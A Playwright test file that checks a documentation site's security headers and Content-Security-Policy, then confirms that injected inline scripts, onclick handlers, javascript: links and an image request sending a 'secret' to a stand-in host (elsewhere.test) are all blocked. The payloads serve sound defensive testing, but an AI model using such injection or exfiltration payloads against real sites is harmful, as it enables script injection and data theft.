import {readdirSync, readFileSync} from 'node:fs';
import path from 'node:path';
import type {Page} from '@playwright/test';
import {expect, hydrated, test} from './support/test';

// Every other test of this folder runs under the policy too: a violation is a console error, which fails it.

const BUILD = path.resolve(__dirname, '../build');

const HEADERS = {
  'content-security-policy': "frame-ancestors 'none'",
  'strict-transport-security': 'max-age=31536000',
  'x-content-type-options': 'nosniff',
  'referrer-policy': 'strict-origin-when-cross-origin',
  'cross-origin-opener-policy': 'same-origin',
};

for (const url of [
  '/',
  '/docs/guidelines/roblox',
  '/docs/staff/portal',
  '/login',
  '/nowhere',
  '/img/logo.svg',
]) {
  test(`${url} is served with the security headers`, async ({request}) => {
    const headers = (await request.get(url)).headers();
    expect(headers).toMatchObject(HEADERS);
    expect(headers['permissions-policy']).toContain('camera=()');
  });
}

test('every built page has a policy that begins with nothing and lets no unknown script run', () => {
  const pages = readdirSync(BUILD, {recursive: true, encoding: 'utf8'}).filter((file) =>
    file.endsWith('.html'),
  );
  expect(pages.length).toBeGreaterThan(15);
  for (const file of pages) {
    const html = readFileSync(path.join(BUILD, file), 'utf8');
    const policy = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(html)?.[1] ?? '';
    const directives = new Map(
      policy.split('; ').map((line): [string, string[]] => {
        const [name = '', ...sources] = line.split(' ');
        return [name, sources];
      }),
    );
    expect(directives.get('default-src'), file).toEqual(["'none'"]);
    const scripts = directives.get('script-src') ?? [];
    expect(scripts, file).toContain("'self'");
    expect(
      scripts.filter((source) => !/^('self'|blob:|'unsafe-hashes'|'sha256-[\w+/=]+')$/.test(source)),
      file,
    ).toEqual([]);
    expect(html.indexOf('Content-Security-Policy'), file).toBeLessThan(html.indexOf('<script'));
  }
});

test.describe('what gets into a page does not run:', () => {
  const pwned = (page: Page) => page.evaluate(() => 'pwned' in window);

  test.beforeEach(async ({page, problems}) => {
    problems.expect(/Content Security Policy|elsewhere\.test/);
    await page.goto('/docs/shop');
    await hydrated(page);
  });

  test('an inline script', async ({page}) => {
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.pwned = true';
      document.body.append(script);
    });
    expect(await pwned(page)).toBe(false);
  });

  test('an event handler', async ({page}) => {
    await page.evaluate(() =>
      document.body.insertAdjacentHTML('beforeend', '<b id="b" onclick="pwned = true">b</b>'),
    );
    await page.locator('#b').dispatchEvent('click');
    expect(await pwned(page)).toBe(false);
  });

  test('a javascript: link', async ({page}) => {
    await page.evaluate(() => {
      document.body.insertAdjacentHTML(
        'beforeend',
        '<a id="a" href="javascript:void(window.pwned = true)">a</a>',
      );
      document.getElementById('a')!.click();
    });
    await expect(page).toHaveURL('/docs/shop');
    expect(await pwned(page)).toBe(false);
  });

  test('a picture that would carry data to another host', async ({page}) => {
    let asked = false;
    await page.route('https://elsewhere.test/**', (route) => {
      asked = true;
      return route.abort();
    });
    const failed = page.evaluate(
      () =>
        new Promise((resolve) => {
          const picture = new Image();
          picture.onerror = () => resolve('refused');
          picture.src = 'https://elsewhere.test/?secret';
        }),
    );
    expect(await failed).toBe('refused');
    expect(asked).toBe(false);
  });
});
